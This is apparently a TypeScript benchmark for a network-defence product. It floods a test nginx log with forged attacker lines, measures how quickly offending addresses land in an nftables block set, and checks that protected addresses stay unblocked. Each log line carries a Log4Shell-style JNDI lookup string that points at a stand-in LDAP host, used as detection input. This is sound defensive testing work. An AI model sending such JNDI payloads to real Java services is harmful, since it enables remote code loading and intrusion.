/**
 * Very many attackers at once, through the whole loop: each sends one exploit, which a web server's followed log tells; the time counts from the
 * write of that line to the element that nft shows in the kernel's set. Among them stand forged lines that name protected addresses.
 */
import { chmodSync, closeSync, mkdirSync, mkdtempSync, openSync, rmSync, writeSync } from 'node:fs';
import { createInterface } from 'node:readline';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createNetworkLab, type NetworkLab } from '@netsentinel/testkit/netns';
import { needNamespaces } from './need-namespaces.ts';
import { cpuMs, percentile, startWholeProduct } from './whole-product.ts';

const TICK_MS = 10;
/** The compilers have seen such lines, and the enforcer has compared its books with the kernel's. */
const WARM_UP = 200;
const SETTLE_MS = 10_000;
/** After the last line was written. */
const GIVE_UP_MS = 60_000;
const HOUR_MS = 3_600_000;
/** One forged line among so many. */
const FORGED_EVERY = 500;
const MEASURED = new Set(['launcher', 'collector', 'platform', 'enforcer']);
const OFFICE = '203.0.113.0/24';

export async function benchFlood(options: { attackers: number; seconds: number }): Promise<Record<string, number>> {
  needNamespaces('BENCH_UNAVAILABLE');
  const { attackers, seconds } = options;
  const folder = mkdtempSync(join(tmpdir(), 'netsentinel-flood-'));
  // The collector is another user.
  chmodSync(folder, 0o755);
  mkdirSync(join(folder, 'log'), { mode: 0o755 });
  const file = join(folder, 'log', 'access.log');
  const log = openSync(file, 'a', 0o644);
  writeSync(log, line('198.51.100.1', 'GET / HTTP/1.1'));
  const lab = createNetworkLab();
  try {
    const product = await startWholeProduct({
      folder,
      keepFolder: true,
      netns: lab.defender,
      config: {
        decoys: [{ id: 'ssh-1', type: 'ssh', address: lab.defender4, port: 2222 }],
        collectors: [{ id: 'web', type: 'tail', options: { paths: [file] } }],
        response: { blockFrom: 40, ttlMs: HOUR_MS },
        enforcer: { mode: 'enforce', nftables: {}, allow: [OFFICE], limits: { ordersPerMinute: 1_000_000 } },
      },
    });
    try {
      const seen = watchSets(lab);
      await flood({ log, seen, from: 0, count: WARM_UP, overMs: 1000 });
      await new Promise((resolve) => setTimeout(resolve, SETTLE_MS));
      const pids = Object.entries(product.pids()).filter(([name]) => MEASURED.has(name));
      const cpu = (): number[] => pids.map(([, pid]) => cpuMs(pid));
      const before = cpu();
      const written = await flood({ log, seen, from: WARM_UP, count: attackers, overMs: seconds * 1000 });
      const used = cpu().map((ms, i) => ms - before[i]!);
      const times = [...written]
        .flatMap(([address, at]) => (seen.has(address) ? [seen.get(address)! - at] : []))
        .toSorted((a, b) => a - b);
      const round = (ms: number): number => Math.round(ms);
      return {
        attackers,
        missed: attackers - times.length,
        p50_ms: round(percentile(times, 0.5)),
        p99_ms: round(percentile(times, 0.99)),
        max_ms: round(times.at(-1) ?? Number.NaN),
        blocked_per_second: round((times.length / (Math.max(...seen.values()) - Math.min(...written.values()))) * 1000),
        // What each of our processes used for an attacker, whatever else the machine does.
        ...Object.fromEntries(
          pids.map(([name], i) => [`${name}_cpu_us_per_attacker`, round((used[i]! / attackers) * 1000)]),
        ),
        protected_blocked: [...seen.keys()].filter((address) => isProtected(address, lab)).length,
      };
    } finally {
      await product.stop();
    }
  } finally {
    closeSync(log);
    lab.destroy();
    rmSync(folder, { recursive: true, force: true });
  }
}

/** Addresses as they come into the kernel's sets, and when nft said so. */
function watchSets(lab: NetworkLab): Map<string, number> {
  const seen = new Map<string, number>();
  const monitor = lab.start('defender', ['nft', 'monitor', 'new', 'elements']);
  createInterface({ input: monitor.stdout! }).on('line', (text) => {
    const address = /^add element inet netsentinel v4_32 \{ ([\d.]+)/.exec(text)?.[1];
    if (address !== undefined && !seen.has(address)) seen.set(address, performance.now());
  });
  return seen;
}

/** Writes all attackers' lines evenly, and waits until each is blocked or it has taken too long; when each was written. */
async function flood(wanted: {
  readonly log: number;
  readonly seen: ReadonlyMap<string, number>;
  readonly from: number;
  readonly count: number;
  readonly overMs: number;
}): Promise<Map<string, number>> {
  const { log, seen, from, count, overMs } = wanted;
  const written = new Map<string, number>();
  const startedAt = performance.now();
  while (written.size < count) {
    const due = Math.min(count, Math.ceil(((performance.now() - startedAt) / overMs) * count));
    let text = '';
    while (written.size < due) {
      const n = from + written.size;
      const address = `100.${64 + (n >> 16)}.${(n >> 8) & 255}.${n & 255}`;
      if (n % FORGED_EVERY === 0) text += [...PROTECTED, '198.18.0.1'].map((one) => exploit(one)).join('');
      text += exploit(address);
      written.set(address, performance.now());
    }
    if (text !== '') writeSync(log, text);
    await new Promise((resolve) => setTimeout(resolve, TICK_MS));
  }
  const end = performance.now() + GIVE_UP_MS;
  while (performance.now() < end && [...written.keys()].some((address) => !seen.has(address)))
    await new Promise((resolve) => setTimeout(resolve, 100));
  return written;
}

/** Allowed ones, loopback, the unspecified one, and all of them once more as IPv6 writes them. */
const PROTECTED = ['203.0.113.7', '127.0.0.1', '0.0.0.0', '::ffff:203.0.113.7'];

function isProtected(address: string, lab: NetworkLab): boolean {
  return address === lab.defender4 || address.startsWith('203.0.113.') || PROTECTED.includes(address);
}

const exploit = (address: string): string => line(address, 'GET /?q=${jndi:ldap://198.51.100.9/a} HTTP/1.1');

/** As nginx writes it (`combined`). */
function line(address: string, request: string): string {
  const [, day, month, year, time] = /^\w+, (\d\d) (\w+) (\d+) ([\d:]+)/.exec(new Date().toUTCString())!;
  return `${address} - - [${day}/${month}/${year}:${time} +0000] "${request}" 404 153 "-" "curl/8.5.0"\n`;
}
